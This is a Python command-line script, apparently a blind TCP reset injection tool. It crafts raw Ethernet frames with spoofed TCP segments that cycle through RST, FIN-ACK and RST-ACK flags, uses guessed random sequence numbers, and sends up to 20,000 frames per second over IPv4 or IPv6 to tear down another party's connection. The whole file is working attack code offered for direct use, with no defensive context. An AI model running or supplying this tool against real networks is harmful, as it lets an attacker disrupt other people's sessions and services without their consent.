"""Segments that end a TCP connection, sent blindly: the right addresses and ports, numbers by chance.

forge.py COUNT DEVICE MAC SOURCE SOURCE_PORT DESTINATION DESTINATION_PORT

RST, FIN with ACK, and RST with ACK in turn, in raw frames to a station of the segment. Addresses of both families.
"""

import itertools
import random
import socket
import struct
import sys
import time

FIN, RST, ACK = 1, 4, 16
PER_SECOND = 20_000


def ones_complement_sum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def packet(family, source, destination, segment):
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(segment), 6, 64) + source + destination + segment
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0x4000, 64, 6, 0) + source + destination
    return head[:10] + struct.pack("!H", 0xFFFF ^ ones_complement_sum(head)) + head[12:] + segment


def main(count, device, mac, source, source_port, destination, destination_port):
    family = socket.AF_INET6 if ":" in source else socket.AF_INET
    source, destination = (socket.inet_pton(family, address) for address in (source, destination))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((device, 0))
    ethertype = b"\x86\xdd" if family == socket.AF_INET6 else b"\x08\x00"
    ethernet = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + ethertype
    pseudo = source + destination + struct.pack("!HH", 6, 20)
    start = time.monotonic()
    for sent, flags in zip(range(int(count)), itertools.cycle([RST, FIN | ACK, RST | ACK])):
        if sent % 64 == 0:
            time.sleep(max(0, start + sent / PER_SECOND - time.monotonic()))
        numbers = [random.getrandbits(32) for _ in range(2)]
        segment = struct.pack(
            "!HHIIBBHHH", int(source_port), int(destination_port), *numbers, 0x50, flags, 0x2000, 0, 0
        )
        checksum = 0xFFFF ^ ones_complement_sum(pseudo + segment)
        segment = segment[:16] + struct.pack("!H", checksum) + segment[18:]
        wire.send(ethernet + packet(family, source, destination, segment))
    print(f"{count} segments")


main(*sys.argv[1:])
